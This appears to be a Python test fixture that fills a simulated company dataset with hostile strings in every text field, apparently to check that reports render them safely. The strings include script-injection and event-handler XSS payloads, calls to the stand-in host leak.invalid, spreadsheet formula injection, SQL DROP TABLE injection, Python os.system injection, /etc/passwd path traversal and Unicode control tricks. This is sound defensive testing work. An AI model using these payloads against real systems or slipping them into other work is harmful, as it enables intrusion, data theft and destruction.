"""A company whose every text is an attack: names, ids, products, comments, the words of ``dataset.yaml``.

The figures are the sample company's, so that every section of every report has something to say; what people wrote is not.
Whatever of it comes alive sets ``window.hacked``, opens a dialog or asks the host ``leak.invalid`` for something.
"""

from __future__ import annotations

import itertools
from functools import cache
from pathlib import Path
from typing import Any

import pandas as pd
import yaml

from kam.samples import simulate_company
from kam.samples.files import describe_company

LONG = 10_000
MARKUP = {
    "script": "<script>window.hacked='script'</script>",
    "script after an end": "</td></tr></table></div></main><script>window.hacked='end'</script>",
    "script after a style": "</style></title></textarea></noscript><script>window.hacked='style'</script>",
    "script in an attribute": "\"'><script>window.hacked='attribute'</script>",
    "script in a comment": "--><script>window.hacked='comment'</script><!--",
    "script, escaped": "&lt;script&gt;window.hacked='escaped'&lt;/script&gt; &amp;lt;b&amp;gt; &#x202e;",
    "handler": "<img src=x onerror=\"window.hacked='img'\">",
    "handler in an attribute": "x' onmouseover='window.hacked=1' autofocus onfocus='window.hacked=2' y='",
    "handler of a detail": "<details open ontoggle=\"window.hacked='toggle'\">d</details>",
    "svg": "<svg/onload=\"window.hacked='svg'\"><script>window.hacked='svg script'</script></svg>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=window.hacked='mxss'>",
    "frame": "<iframe srcdoc=\"<script>parent.hacked='frame'</script>\"></iframe>",
    "dialog": "<script>alert('hacked')</script>",
    "picture": '<img src="https://leak.invalid/p.png" srcset="https://leak.invalid/s.png 2x">',
    "style": "<style>@import url(https://leak.invalid/s.css); body{display:none}</style>",
    "sheet": "<link rel=stylesheet href=https://leak.invalid/l.css><link rel=prefetch href=https://leak.invalid/f>",
    "refresh": '<meta http-equiv=refresh content="0;url=https://leak.invalid/r">',
    "base": "<base href=https://leak.invalid/b/><form action=https://leak.invalid/f><input name=q></form>",
    "cover": '<div id="report" style="position:fixed;inset:0;background:url(https://leak.invalid/c.png)">cover</div>',
    "link": "<a href=\"javascript:window.hacked='link'\" ping=https://leak.invalid/g>link</a>",
    "video": "<video src=https://leak.invalid/v poster=https://leak.invalid/o autoplay><audio src=https://leak.invalid/a>",
}
MARKDOWN = {
    "markdown link": "[pay here](javascript:window.hacked='md') ![pixel](https://leak.invalid/m.png)",
    "markdown block": "# Heading\n\n```\n| a | b |\n|---|---|\n- **bold** _it_ ~~x~~ <https://leak.invalid>",
    "reference": "[x][1]\n\n[1]: https://leak.invalid/ 'x'",
    "formula of TeX": r"$\frac{1}{0}$ \input{/etc/passwd} $$\href{https://leak.invalid}{x}$$ 100 % & A_B^C",
}
FORMULAS = {
    "formula": '=HYPERLINK("https://leak.invalid","x")',
    "formula with a command": "=cmd|'/C calc'!A0",
    "formula from +": "+1+cmd|'/C calc'!A0",
    "formula from -": "-2+3+cmd|'/C calc'!A0",
    "formula from @": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula, full width": "＝1+1",
    "address": "https://leak.invalid/x?a=1",
    "mail": "mailto:hacked@leak.invalid",
    "inner sheet": "internal:Sheet1!A1",
}
CODE = {
    "sql": "Robert'); DROP TABLE ledger; --",
    "sql comment": "\" OR 1=1 /* */ UNION SELECT * FROM read_csv('/etc/passwd') --",
    "braces": "{0.__class__} {x!r:>9} {{7*7}} {% raw %} {# #} ${jndi:ldap://leak.invalid/a} %s%n%(x)d",
    "python": "__import__('os').system('touch /tmp/hacked')  # \\N{BULLET} \\x00 \\",
    "query": "@x or `y` == 'z' and not C(a) ~ b:c | ^ &",
    "path": "../../../../../../etc/passwd",
    "path of windows": "..\\..\\C:\\Windows\\CON:stream.txt",
    "device": "CON",
    "address of a share": "\\\\leak.invalid\\share\\x",
    "pattern": "[a-z]*?**/.htaccess~$",
    "nothing": "NaN",
    "null": "NULL",
    "yes": "TRUE",
    "number": "1e308",
    "date": "2025-02-30",
    "dash": "-",
}
SIGNS = {
    "override": "safe\u202egpj.exe\u202d 123 <b>",
    "embedding": "\u202b\u202a\u202bopen, never closed 456",
    "isolate": "\u2067\u2068\u2066open, never closed 789",
    "marks": "\u200f\u200e\u061cmarks\u200b\u200c\u200d\u2060\ufeff\u00adzero width",
    "right to left": "شركة «مرحبا» 12% (A) ‏חברה",
    "controls": "a\x01b\x07c\x08d\x0be\x0cf\x1bg\x7fh\x80i\x9bj",
    "terminal": "\x1b[31mred\x1b]0;title\x07\x1b[2J\x1b[8mhidden",
    "line ends": "one\ntwo\rthree\r\nfour\u2028five\u2029six\x85seven\tend",
    "not characters": "\ufffe\uffff\U0001fffe\ufdd0\ue000\ufffd",
    "zalgo": "Z" + "\u0300\u0301\u0316\u0317\u0334" * 40 + "algo",
    "emoji": "👨‍👩‍👧‍👦🏴‍☠️🇺🇳\U000e0041\U000e007f",
    "scripts": "บริษัท देवनागरी 한빛포장 澜禾家具 株式会社 ﷽ 𒐫",
    "long word": "W" * LONG,
    "long words": "word and " * (LONG // 9),
    "long name": "澜" * LONG,
    "long markup": "<b>" * (LONG // 3) + "<script>window.hacked='long'</script>",
}
WITH_NUL = {
    "nul": "a\x00b<script>window.hacked='nul'</script>",
    "nuls in markup": "<scr\x00ipt>window.hacked='n'</scr\x00ipt>",
}
ATTACKS = {**MARKUP, **MARKDOWN, **FORMULAS, **CODE, **SIGNS, **WITH_NUL}

_TEXTS = {
    "ledger": ("order_id", "product_id", "product_group", "region", "ship_region", "channel"),
    "accounts": ("name", "industry", "region", "credit_rating", "manager", "sponsor", "competitors"),
    "contacts": ("contact_id", "name", "role"),
    "survey": ("respondent_id", "role", "stratum", "psu", "comment"),
    "sample": ("stratum", "status"),
    "events": ("outcome", "reason", "competitor"),
    "targets": (),
    "overrides": ("reason", "set_by"),
    "programmes": ("programme",),
    "external": ("series",),
}
_MISSING = ("NaN", "NULL")  # of ids: they are missing then, which `kam check` says
_IDS = ("customer_id", "parent_id")
_ALL_DIFFERENT = ("order_id", "name", "contact_id", "respondent_id", "psu", "comment")
_FEW = 9  # values of a column that makes groups, so that groups stay large enough to be shown
_SHORT = 300  # of a column whose values are repeated thousands of times


class Hostile:
    """Texts that take the place of others: the same for the same, different for different ones."""

    def __init__(self) -> None:
        self._ids: dict[str, str] = {}
        self._turn = itertools.count()

    def id_for(self, value: str) -> str:
        """An id that is an attack; the first of each attack is nothing but the attack."""
        if value not in self._ids:
            n, attacks = len(self._ids), [text for text in ATTACKS.values() if text not in _MISSING]
            text = attacks[n % len(attacks)]
            self._ids[value] = text if n < len(attacks) else f"{text[:60]} #{n}"
        return self._ids[value]

    def replace(self, column: pd.Series, *, few: bool) -> pd.Series:
        """The column with an attack in the place of each of its values; missing ones stay missing."""
        attacks = [text for text in ATTACKS.values() if text not in _MISSING]
        start = next(self._turn) * _FEW
        new: dict[object, str] = {}
        for n, value in enumerate(column.dropna().unique()):
            text = attacks[(start + n) % len(attacks)] if few else attacks[n % len(attacks)]
            again = n >= len(attacks)
            new[value] = f"{text[:60]} #{n}" if again else text
        return column.map(new).astype("str").where(column.notna(), None)


@cache
def _company() -> Any:
    return simulate_company(seed=1, n_accounts=150, n_months=36)


def write_hostile_company(folder: Path) -> Path:
    """Write the company as a dataset of Parquet files, which hold whatever a text can be, and one table as CSV.

    Returns
    -------
    pathlib.Path
        The ``dataset.yaml``.
    """
    folder.mkdir(parents=True, exist_ok=True)
    company, hostile = _company(), Hostile()
    for name, table in company.tables().items():
        frame = table.copy()
        for column in _IDS:
            if column in frame:
                frame[column] = frame[column].map(hostile.id_for, na_action="ignore").astype("object")
        for column in _TEXTS[name]:
            if column in frame:
                frame[column] = hostile.replace(frame[column], few=column not in _ALL_DIFFERENT)
        if name == "survey":
            everything = itertools.cycle(ATTACKS.values())
            frame["comment"] = [next(everything) for _ in range(len(frame))]
        if name == "programmes":
            frame["programme"] = [*ATTACKS.values()][: len(frame)]
        if name == "contacts":
            text = frame.to_csv(index=False).replace("\0", "")  # a text file with NUL is refused
            (folder / "contacts.csv").write_text(text, encoding="utf-8", newline="")
        else:
            frame.to_parquet(folder / f"{name}.parquet")
    path = folder / "dataset.yaml"
    path.write_text(yaml.safe_dump(_describe(company), sort_keys=False, allow_unicode=False), encoding="utf-8")
    return path


def _describe(company: Any) -> dict[str, Any]:
    """What ``dataset.yaml`` says, with an attack wherever it may hold one."""
    content: dict[str, Any] = yaml.safe_load(yaml.safe_dump(_plain(describe_company(company))))
    content["name"] = "hostile"
    content["title"] = f"{MARKUP['script']}{SIGNS['override']}{MARKUP['picture']}{MARKUP['script after a style']}"
    for name, table in content["tables"].items():
        table["source"] = "contacts.csv" if name == "contacts" else f"{name}.parquet"
        table.pop("encoding", None)
    items = itertools.cycle(
        [*MARKUP.values(), *MARKDOWN.values(), SIGNS["override"], SIGNS["isolate"], SIGNS["right to left"]]
    )
    for item in content["tables"]["survey"]["items"]:
        item["text"] = next(items)[:1000]
    return content


def _plain(value: Any) -> Any:
    if isinstance(value, dict):
        return {str(key): _plain(one) for key, one in value.items()}
    if isinstance(value, (list, tuple)):
        return [_plain(one) for one in value]
    return value if isinstance(value, (str, int, float, bool, type(None))) else str(value)
